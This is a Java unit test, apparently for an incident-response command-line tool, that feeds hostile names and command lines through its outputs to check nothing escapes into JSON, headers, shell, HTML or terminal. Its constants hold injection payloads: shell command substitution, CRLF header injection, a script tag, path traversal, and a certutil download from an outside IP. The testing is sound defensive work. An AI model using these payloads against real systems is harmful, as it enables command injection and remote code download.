package seldom.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import seldom.cli.Month.Ran;
import seldom.playbook.run.Wait;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/// Names and command lines of an attacker who knows where they will be written: from telemetry to
/// every place outside, nothing breaks out. Each sink by itself is tested where it is.
class HostileVariablesTest {
  private static final Instant NOON = Instant.parse("2026-05-04T12:00:00Z");
  private static final String JSON_BREAK = "\"},\"host\":\"dc-1\",\"kind\":\"seldom-isolate\"}";
  private static final String HEADER_BREAK = "\r\nX-Injected: yes\r\n\r\nGET /stolen HTTP/1.1";
  private static final String SHELL_BREAK = "'; touch /tmp/broken-out; $(touch x) `touch y` #";
  private static final String URL_BREAK = "/../../act?host=dc-1#@192.0.2.1";
  private static final String PAGE_BREAK = "</td><script>alert(1)</script>\u001b[2J\u202e";
  private static final String VARIABLE_BREAK = "__host__:value __terminate_at_once__:value";
  private static final String LINE =
      "cmd.exe /c echo "
          + JSON_BREAK
          + HEADER_BREAK
          + SHELL_BREAK
          + URL_BREAK
          + PAGE_BREAK
          + VARIABLE_BREAK
          + " & certutil -urlcache -f http://203.0.113.77/x"
          + URL_BREAK;

  @TempDir Path temp;

  private static final Wire.File CMD = new Wire.File(Wire.CMD, "Microsoft Windows");

  /// What a stub was asked, as JSON; the path stands under `path`.
  private static List<JsonNode> bodies(Stub stub) {
    List<JsonNode> all = new ArrayList<>();
    for (String asked : stub.asked()) {
      int cut = asked.indexOf(' ');
      assertThat(asked.substring(0, cut)).isIn("/look", "/act", "/hook");
      all.add(JsonMapper.shared().readTree(asked.substring(cut + 1)));
    }
    return all;
  }

  private static Set<String> names(JsonNode node) {
    return new TreeSet<>(node.propertyNames());
  }

  @Test
  void nothingBreaksOutOfJsonHeadersUrlsPagesOrTheTerminal() throws IOException {
    try (Stub edr = new Stub((path, body) -> "{\"state\":\"effective\"}");
        Stub chat = new Stub((path, body) -> "{}")) {
      Site site = new Site(temp).hosts("ws-1,workstation");
      site.settings(
          "endpoint: { adapter: webhook, url: \"%s\" }\nnotify: { webhook: { url: \"%s/hook\" } }\n"
              .formatted(edr.url(), chat.url()));
      Wire.File odd = new Wire.File("C:\\Windows\\k" + SHELL_BREAK + ".exe", "");
      Wire.Caller caller = new Wire.Caller("CORP\\ann" + JSON_BREAK, "10.9.9.9", "0x51d3a");
      site.replay(new Wire().psexec("ws-1", NOON, odd, "svc" + HEADER_BREAK, caller, CMD, LINE));
      assertThat(site.alerts(Site.PSEXEC).getFirst().commandLines().toString())
          .as("the text is kept as it is")
          .contains(JSON_BREAK);
      Site.Look look = site.look();
      for (int i = 0; i < 12 && !look.questions().isEmpty(); i++) {
        Wait.ForAnswer q = look.questions().getFirst();
        boolean opinion = q.choices().contains("malicious");
        site.answer(q, opinion ? "malicious" : q.choices().getFirst());
        look = site.look();
      }

      List<JsonNode> acts = bodies(edr);
      assertThat(acts).isNotEmpty();
      Set<String> fields = names(acts.getFirst());
      for (JsonNode act : acts) {
        assertThat(names(act)).isEqualTo(fields);
        assertThat(act.path("host").asString()).isIn("ws-1", "10.9.9.9", "");
      }
      List<JsonNode> told = bodies(chat);
      assertThat(told).isNotEmpty();
      told.forEach(t -> assertThat(names(t)).isEqualTo(names(told.getFirst())));

      Ran listed = Month.run("approvals", "--data", site.data);
      Ran runs = Month.run("playbook", "runs", site.run(), "--data", site.data);
      String id = site.incident().id();
      Ran markdown = Month.run("incident", "report", id, "--data", site.data);
      for (Ran ran : List.of(listed, runs, markdown)) {
        assertThat(ran.out()).doesNotContain("\u001b", "\u202e", "\r", "\nX-Injected");
      }
      Path page = temp.resolve("r.html");
      assertThat(Month.run("incident", "report", id, "--data", site.data, "--out", page).exit())
          .isZero();
      assertThat(Files.readString(page)).doesNotContain("<script", "\u001b", "\u202e");
      assertThat(Month.run("blocklist", "--stix", "--data", site.data).out())
          .satisfies(bundle -> JsonMapper.shared().readTree(bundle));
      for (String kind : List.of("ip", "url", "domain")) {
        Month.run("blocklist", kind, "--data", site.data)
            .out()
            .lines()
            .forEach(l -> assertThat(l).matches("[\\x21-\\x7e]+").doesNotContain("192.0.2.1"));
      }
      assertThat(Path.of("/tmp/broken-out")).doesNotExist();
    }
  }
}
